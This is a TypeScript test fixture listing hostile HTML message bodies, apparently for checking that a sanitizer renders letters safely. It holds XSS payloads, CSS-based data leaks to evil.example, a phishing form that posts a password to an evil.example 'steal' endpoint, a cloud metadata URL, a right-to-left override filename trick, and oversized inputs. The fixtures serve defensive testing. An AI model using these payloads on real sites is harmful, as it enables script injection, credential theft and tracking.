import type { Language } from "../model";

/** Bodies that somebody wrote to do harm. Nothing of them may run, load, send or cover anything. */
export const HOSTILE_BODIES: readonly {
  key: string;
  title: string;
  text: string;
  html: (origin: string, language: Language) => string;
}[] = [
  {
    key: "scripts",
    title: "<script>alert(1)</script>Scripts everywhere",
    text: "<img src=x onerror=alert(1)> javascript:alert(1) \u202Egnp.exe\u202C",
    html: (origin) => `<p onclick="alert(1)" onmouseover=alert(1)>Read <b>me</b></p>
<script>document.title='owned'</script><script src="https://evil.example/x.js"></script>
<img src=x onerror="parent.document.title='owned'"><svg onload="alert(1)"><script>alert(1)</script></svg>
<a href="javascript:document.title='owned'">Win a prize</a> <a href="  jav&#x09;ascript:alert(1)">tab</a>
<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="vbscript:x">vb</a> <a href="//evil.example/x">relative</a>
<a href="/api/session">ours</a> <a href="https://example.com/fine" target="_top">a real link</a>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<img src="${origin}/images/espresso.png" srcset="https://evil.example/big.png 2x" alt="&quot;><script>alert(1)</script>" onload="alert(1)">`,
  },
  {
    key: "styles",
    title: "Styles that watch",
    text: "Styles",
    html: () => `<style>body{background:url(https://evil.example/seen)} @import "https://evil.example/x.css"; input[value^=a]{background:url(//evil.example/a)}</style>
<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv="Content-Security-Policy" content="default-src *">
<div style="position:fixed;inset:0;z-index:9999;background:red url('https://evil.example/seen');width:99999px">Covers all?</div>
<p style="background-image:url(https://evil.example/p);color:expression(alert(1));behavior:url(x);margin-top:-500px;color:</style><script>alert(1)</script>">Text that stays</p>
<table background="https://evil.example/t.png" width="99999"><tr><td width="99999" style="width:99999px">${"wide".repeat(200)}</td></tr></table>`,
  },
  {
    key: "forms",
    title: "Please confirm your password",
    text: "Forms and frames",
    html: () => `<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="p" autofocus></label><button>Sign in</button><textarea>stolen</textarea><select><option>one</option></select></form>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">
<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>
<template><img src=x onerror=alert(1)></template><portal src="https://evil.example"></portal>
<img src="https://evil.example/track.png" width="200" alt="A picture from elsewhere"><img src="http://169.254.169.254/latest" alt="metadata"><p>What is left</p>`,
  },
  {
    key: "huge",
    title: `Huge ${"Ž".repeat(240)}`,
    text: `A very long letter. ${"word ".repeat(20_000)}`,
    html: () =>
      `${"<div>".repeat(3_000)}deep${"<p>A paragraph of a letter that never ends.</p>".repeat(12_000)}`,
  },
];
